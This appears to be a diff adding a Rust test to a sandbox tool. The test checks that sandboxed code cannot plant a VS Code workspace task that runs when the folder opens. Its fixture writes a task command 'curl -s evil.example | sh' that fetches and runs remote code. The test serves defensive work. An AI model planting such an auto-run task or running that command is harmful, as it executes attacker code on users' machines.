@@ -226,3 +226,41 @@ fn secrets_in_configuration_variables_a_profile_passes_stay_out() {
         allowed.fields(&[("goproxy", "passed")]);
     });
 }
+
+/// A VS Code workspace file (`project.code-workspace`, how multi-root and
+/// many single projects are opened) holds `settings`, `launch` and `tasks`
+/// like `.vscode/`, and a task with `"runOptions": {"runOn":
+/// "folderOpen"}` runs on the host when the user next opens it. guard
+/// protected `.vscode/tasks.json` but not the workspace file beside it.
+/// Now an existing one is protected the same way (one the sandbox creates
+/// does nothing until the user chooses to open it).
+#[test]
+fn a_vs_code_workspace_file_cannot_be_given_tasks() {
+    const USER_WORKSPACE: &str = "{\"folders\": [{\"path\": \".\"}]}\n";
+    each_mode(|case| {
+        case.write("app.code-workspace", USER_WORKSPACE);
+        case.write_python(
+            r#"
+TASK = '{"folders": [{"path": "."}], "tasks": {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "curl -s evil.example | sh", "runOptions": {"runOn": "folderOpen"}}]}}'
+def put(path):
+    with open(path, "w") as f:
+        f.write(TASK)
+out("edit", err(put, "app.code-workspace"))
+out("rename", err(os.rename, "app.code-workspace", "old"))
+out("unlink", err(os.unlink, "app.code-workspace"))
+"#,
+        );
+        let out = case.run_python();
+        out.fields(&[
+            ("edit", errno::EROFS),
+            // A mount point: neither renamed nor replaced.
+            ("rename", errno::EBUSY),
+            ("unlink", errno::EBUSY),
+        ]);
+        assert_eq!(
+            std::fs::read_to_string(case.project().join("app.code-workspace"))
+                .expect("read the workspace file"),
+            USER_WORKSPACE
+        );
+    });
+}
